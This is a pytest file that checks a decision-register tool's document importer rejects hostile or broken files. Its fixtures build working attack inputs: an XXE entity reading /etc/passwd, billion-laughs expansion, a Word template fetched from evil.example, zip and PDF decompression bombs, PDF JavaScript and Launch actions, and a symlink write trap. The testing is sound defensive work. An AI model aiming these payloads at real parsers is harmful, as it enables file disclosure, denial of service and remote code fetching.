"""Documents that are damaged, protected, empty, huge or made to harm: one clear line each, and nothing written."""

import io
import zipfile
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from click.testing import CliRunner
from outside import needed

from hipss_register.cli import main
from hipss_register.importing import readers
from hipss_register.importing.blocks import MOST_WORDS
from hipss_register.importing.open_elements import MOST_DEPTH
from hipss_register.importing.word import MOST_TAGS

needed("mammoth", "mammoth")
needed("pdfplumber", "pdfplumber")

from renderings import as_pdf, as_word  # noqa: E402 - only once its packages are known to be here

FORM = {"title": "A lease", "date": "2024-03-05", "decision_maker": "Cabinet", "decision": "To let the kiosk."}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def word_with(parts: dict[str, bytes], without: str = "") -> bytes:
    """A sound Word document with parts put in or changed."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(as_word(FORM))) as sound, zipfile.ZipFile(stream, "w") as made:
        for info in sound.infolist():
            if info.filename not in parts and info.filename != without:
                made.writestr(info.filename, sound.read(info))
        for name, content in parts.items():
            made.writestr(name, content, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def word_bomb() -> bytes:
    return word_with({"word/media/image1.png": b"\0" * 101_000_000})


def xml_part(text: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(as_word(FORM))) as sound:
        document = sound.read("word/document.xml").decode()
    return document.replace("<w:document ", f"{text}<w:document ", 1).encode()


def external_entity() -> bytes:
    declared = '<!DOCTYPE d [<!ENTITY passwords SYSTEM "file:///etc/passwd">]>'
    return word_with({"word/document.xml": xml_part(declared)})


def many_laughs() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return word_with({"word/document.xml": xml_part(f'<!DOCTYPE d [<!ENTITY l0 "ha">{lines}]>')})


def fetched_template() -> bytes:
    relation = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return word_with({"word/_rels/settings.xml.rels": relation.encode()})


def pdf_with(piece: bytes) -> bytes:
    return as_pdf(FORM).replace(b"/Type /Catalog", b"/Type /Catalog " + piece, 1)


def pdf_bomb() -> bytes:
    packed = zlib.compress(b" " * 101_000_000)
    stream = b"9 0 obj\n<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (len(packed), packed)
    return b"%PDF-1.4\n" + stream + b"%%EOF"


def pdf_protected() -> bytes:
    pypdf = needed("pypdf", "pypdf")
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(as_pdf(FORM)))
    writer.encrypt("secret", algorithm="RC4-128")
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def pdf_without_words() -> bytes:
    pypdf = needed("pypdf", "pypdf")
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=200, height=200)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def deep_word() -> bytes:
    table = b"<w:tbl><w:tr><w:tc>" * 3000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 3000
    document = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    return word_with({"word/document.xml": document + table + b"</w:body></w:document>"})


def deep_parts() -> bytes:
    lines = (f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(3000))
    return "".join(lines).encode() + b"Content-Type: text/html\n\n<p>x"


def pdf_page(content: bytes, forms: Sequence[bytes] = ()) -> bytes:
    """A page that draws what its content says; the forms it may draw are the objects from the sixth on."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources %s>>" % DRAWS_SIXTH
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", pages, page, pdf_stream(content), font, *forms]
    made, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(made))
    return made + head + table + trailer


def pdf_stream(content: bytes, about: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    return b"<</Length %d/Filter/FlateDecode%s>>\nstream\n%s\nendstream" % (len(packed), about, packed)


DRAWS_SIXTH = b"<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"


def pdf_forms() -> bytes:
    """Nine forms, each of which draws the next ten times."""
    about = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    return pdf_page(b"/X Do " * 10, [pdf_stream(b"/X Do " * 10, about % (n + 1)) for n in range(6, 15)])


def pdf_within() -> bytes:
    """Two thousand streams that begin within one another, and read all that follows."""
    begin = b"stream\n\x78\x01"
    block = b"\0" + len(begin).to_bytes(2, "little") + (len(begin) ^ 0xFFFF).to_bytes(2, "little") + begin
    return b"%PDF-1.4\n" + begin + block * 2000 + b"\0\0\0\xff\xff" * 200_000


def many_tags() -> bytes:
    body = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    return word_with({"word/document.xml": body + b"<w:p/>" * MOST_TAGS + b"</w:body></w:document>"})


CASES: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    ("nothing in it", "a.txt", lambda: b" \n", "EMPTY-FILE", "there is nothing in it"),
    ("no words", "a.html", lambda: b"<p> </p><script>alert(1)</script>", "EMPTY-FILE", "there are no words"),
    ("no kind", "a.xyz", lambda: b"x", "SOURCE-TYPE", "end in .docx, .pdf"),
    ("macros by name", "a.docm", lambda: b"x", "SOURCE-TYPE", "save it in Word as .docx"),
    ("old Word", "a.doc", lambda: OLE, "SOURCE-TYPE", "save it as .docx"),
    ("no form", "a.txt", lambda: b"Dear sir, thank you for your letter.", "UNREADABLE", "no record of a decision"),
    ("bytes as text", "a.txt", lambda: b"\x00\x01\x02", "SOURCE-TYPE", "this is not text"),
    ("UTF-16", "a.txt", lambda: b"\xff\xfeT\0", "UNREADABLE", "no record"),
    ("wrong UTF-16", "a.txt", lambda: b"\xff\xfeT", "NOT-UTF8", "cannot be told"),
    ("huge text", "a.txt", lambda: b"x" * 5_000_001, "TOO-LARGE", "5,000,001 bytes; at most 5,000,000"),
    ("many words", "a.txt", lambda: b"Title: x\n" + b"word " * MOST_WORDS, "TOO-LARGE", "at most 60,000 are read"),
    ("deep HTML", "a.html", lambda: b"<div>" * (MOST_DEPTH + 9) + b"x", "TOO-DEEP", "more than 400 deep"),
    ("deep tables", "a.html", lambda: b"<table><tr><td>" * 3000 + b"x", "TOO-DEEP", "more than 400 deep"),
    ("no such letters", "a.html", lambda: b"<meta charset=undefined><p>\xe9", "UNREADABLE", "no record of a"),
    ("no such script", "a.html", lambda: b"<meta charset=punycode><p>a b", "UNREADABLE", "no record of a"),
    ("odd section", "a.html", lambda: b"<p><![x[ <![CDATA[ a ]]> b", "UNREADABLE", "no record of a"),
    ("open tags", "a.html", lambda: b"<a" * 300_000, "UNREADABLE", "no record of a"),
    ("open comments", "a.html", lambda: b"<!--" * 300_000, "UNREADABLE", "no record of a"),
    ("a line and more", "a.md", lambda: b"-" * 1_000_000 + b"x", "UNREADABLE", "no record of a"),
    ("much of a heading", "a.md", lambda: b"# " + b"#" * 1_000_000 + b"x", "UNREADABLE", "no record of a"),
    ("no Word", "a.docx", lambda: b"PK\x03\x04 nothing more", "UNREADABLE", "a damaged Word document"),
    ("text as Word", "a.docx", lambda: b"Title: x", "UNREADABLE", "a damaged Word document"),
    ("cut Word", "a.docx", lambda: as_word(FORM)[:9000], "UNREADABLE", "a damaged Word document"),
    ("other zip", "a.docx", lambda: word_with({}, "word/document.xml"), "UNREADABLE", "this is no Word document"),
    ("bad XML", "a.docx", lambda: word_with({"word/document.xml": b"<w:p>"}), "UNREADABLE", "a damaged Word document"),
    ("protected Word", "a.docx", lambda: OLE, "UNREADABLE", "protected by a password"),
    ("Word bomb", "a.docx", word_bomb, "TOO-LARGE", "would unpack to more than 100,000,000 bytes"),
    ("Word macros", "a.docx", lambda: word_with({"word/vbaProject.bin": b"x"}), "SOURCE-TYPE", "it carries macros"),
    ("external entity", "a.docx", external_entity, "SOURCE-TYPE", "declares entities"),
    ("many laughs", "a.docx", many_laughs, "SOURCE-TYPE", "declares entities"),
    ("template", "a.docx", fetched_template, "SOURCE-TYPE", "fetches its template from elsewhere"),
    ("deep Word", "a.docx", deep_word, "TOO-DEEP", "too deep"),
    ("much XML", "a.docx", lambda: word_with({"word/theme.xml": b" " * 20_000_001}), "TOO-LARGE", "20,000,000 bytes"),
    (
        "entities in notes",
        "a.docx",
        lambda: word_with({"word/footnotes.xml": b"<!DOCTYPE a>"}),
        "SOURCE-TYPE",
        "entities",
    ),
    ("broken lists", "a.docx", lambda: word_with({"word/numbering.xml": b"<w:"}), "UNREADABLE", "a damaged Word"),
    ("no page", "a.mhtml", lambda: b"Subject: x\n\nHello.", "UNREADABLE", "there is no page in it"),
    ("deep parts", "a.mht", deep_parts, "TOO-DEEP", "too deep"),
    ("no letters", "a.mhtml", lambda: b'Content-Type: text/html; charset="a\0b"\n\nx', "UNREADABLE", "no record of a"),
    ("no PDF", "a.pdf", lambda: b"Title: x", "UNREADABLE", "this is no PDF"),
    ("empty PDF", "a.pdf", lambda: b"%PDF-1.4\n", "UNREADABLE", "a damaged PDF"),
    ("cut PDF", "a.pdf", lambda: as_pdf(FORM)[:700], "UNREADABLE", "a damaged PDF"),
    ("protected PDF", "a.pdf", pdf_protected, "UNREADABLE", "protected by a password"),
    ("scan", "a.pdf", pdf_without_words, "EMPTY-FILE", "made into text first (OCR)"),
    ("PDF bomb", "a.pdf", pdf_bomb, "TOO-LARGE", "would unpack to more than 100,000,000 bytes"),
    ("PDF streams", "a.pdf", lambda: b"%PDF-1.4\n" + b"stream\n" * 60_000, "TOO-LARGE", "more than 50,000 streams"),
    ("PDF within itself", "a.pdf", pdf_within, "TOO-LARGE", "streams within streams"),
    ("PDF forms", "a.pdf", pdf_forms, "TOO-LARGE", "page 1 has more than 50,000 letters or 20,000 lines"),
    (
        "PDF letters",
        "a.pdf",
        lambda: pdf_page(b"BT /F 9 Tf " + b"(%s) Tj " % (b"a" * 100) * 501),
        "TOO-LARGE",
        "page 1 has more than 50,000 letters",
    ),
    ("many tags", "a.docx", many_tags, "TOO-LARGE", "600,000 are read"),
    ("PDF script", "a.pdf", lambda: pdf_with(b"/OpenAction <</S /JavaScript /JS (x)>>"), "SOURCE-TYPE", "scripts"),
    ("PDF program", "a.pdf", lambda: pdf_with(b"/OpenAction <</S /Launch /F (x)>>"), "SOURCE-TYPE", "programs"),
]


@pytest.mark.parametrize(("name", "make", "code", "words"), [case[1:] for case in CASES], ids=[c[0] for c in CASES])
def test_one_clear_line_and_nothing_written(
    tmp_path: Path, name: str, make: Callable[[], bytes], code: str, words: str
) -> None:
    file = tmp_path / name
    file.write_bytes(make())
    result = CliRunner().invoke(main, ["import", str(file), "--decisions", str(tmp_path / "decisions")])
    assert result.exit_code == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"{file}:1: {code} ")
    assert words in line
    assert result.stdout == "Nothing was written.\n"
    assert [path.name for path in tmp_path.iterdir()] == [name]


@pytest.mark.parametrize("make", [lambda path: None, lambda path: path.mkdir()], ids=["missing", "folder"])
def test_what_is_no_file(tmp_path: Path, make: Callable[[Path], None]) -> None:
    make(tmp_path / "a.txt")
    result = CliRunner().invoke(main, ["import", str(tmp_path / "a.txt"), "--decisions", str(tmp_path / "decisions")])
    assert result.exit_code == 1
    assert "UNREADABLE" in result.stderr
    assert not (tmp_path / "decisions").exists()


def test_one_bad_document_does_not_keep_others_out(tmp_path: Path) -> None:
    (tmp_path / "bad.docx").write_bytes(OLE)
    (tmp_path / "good.docx").write_bytes(as_word(FORM))
    files = [str(tmp_path / name) for name in ("bad.docx", "good.docx")]
    result = CliRunner().invoke(main, ["import", *files, "--decisions", str(tmp_path / "decisions")])
    assert result.exit_code == 1
    assert [path.name for path in (tmp_path / "decisions").glob("*.yaml")] == ["2024-03-05-lease.yaml"]


def test_scripts_of_a_page_never_become_words(tmp_path: Path) -> None:
    page = (
        "<script>var x = 'Title: evil'</script><style>p{}</style><h3>Title</h3><p>A lease</p><h3>Decision</h3><p>x</p>"
    )
    (tmp_path / "a.html").write_text(page)
    CliRunner().invoke(main, ["import", str(tmp_path / "a.html"), "--decisions", str(tmp_path / "d")])
    (draft,) = (tmp_path / "d").glob("*.yaml")
    assert "evil" not in draft.read_text()
    assert (tmp_path / "d" / "sources" / "a.html.txt").read_text() == page


@pytest.mark.parametrize(("name", "package"), [("a.docx", "mammoth"), ("a.pdf", "pdfplumber")])
def test_a_reader_that_is_not_installed_is_named_with_the_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, package: str
) -> None:
    monkeypatch.setattr(readers.importlib.util, "find_spec", lambda wanted: None)
    (tmp_path / name).write_bytes(as_word(FORM))
    result = CliRunner().invoke(main, ["import", str(tmp_path / name), "--decisions", str(tmp_path / "d")])
    assert f"needs the package {package}" in result.stderr
    assert 'run: pip install "hipss-register[import]"' in result.stderr


def test_a_page_cannot_have_its_words_changed_by_what_it_calls_its_letters(tmp_path: Path) -> None:
    page = b"<meta charset=unicode_escape><h3>Title</h3><p>A lease</p><h3>Decision</h3><p>To let \\x41.</p>"
    (tmp_path / "a.html").write_bytes(page)
    CliRunner().invoke(main, ["import", str(tmp_path / "a.html"), "--decisions", str(tmp_path / "d")])
    (draft,) = (tmp_path / "d").glob("*.yaml")
    assert "To let \\x41." in draft.read_text()


def test_a_sentence_of_many_dates_is_read(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Title: A lease\nDecision: " + "from 1 May 2020 " * 12_000)
    result = CliRunner().invoke(main, ["import", str(tmp_path / "a.txt"), "--decisions", str(tmp_path / "d")])
    assert result.exit_code == 0


def test_a_word_document_of_many_numbers_and_words_is_read(tmp_path: Path) -> None:
    space = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    level = b'<w:lvl w:ilvl="0"><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%s"/></w:lvl>' % (b"%1" * 10_000)
    lists = b'<w:abstractNum w:abstractNumId="0">%s</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/>'
    item = (
        b'<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>%d</w:t></w:r></w:p>'
    )
    body = b"".join(item % number for number in range(2000))
    parts = {
        "word/numbering.xml": b"<w:numbering %s>%s</w:num></w:numbering>" % (space, lists % level),
        "word/document.xml": b"<w:document %s><w:body>%s</w:body></w:document>" % (space, body),
    }
    (tmp_path / "a.docx").write_bytes(word_with(parts))
    result = CliRunner().invoke(main, ["import", str(tmp_path / "a.docx"), "--decisions", str(tmp_path / "d")])
    assert "no record of a decision" in result.stderr


def test_nothing_is_written_through_a_link_that_waits_in_the_folder(tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("mine")
    (tmp_path / "a.txt").write_text("Title: A lease\nDate: 5 March 2024\nDecision: To let the kiosk.\n")
    sources = tmp_path / "d" / "sources"
    sources.mkdir(parents=True)
    for path in (sources / ".a.txt.part", tmp_path / "d" / ".2024-03-05-lease.yaml.part"):
        path.symlink_to(tmp_path / "mine")
    result = CliRunner().invoke(main, ["import", str(tmp_path / "a.txt"), "--decisions", str(tmp_path / "d")])
    assert result.exit_code == 0
    assert (tmp_path / "mine").read_text() == "mine"
    assert (sources / "a.txt").read_text().startswith("Title: A lease")
    assert (tmp_path / "d" / "2024-03-05-lease.yaml").is_file()
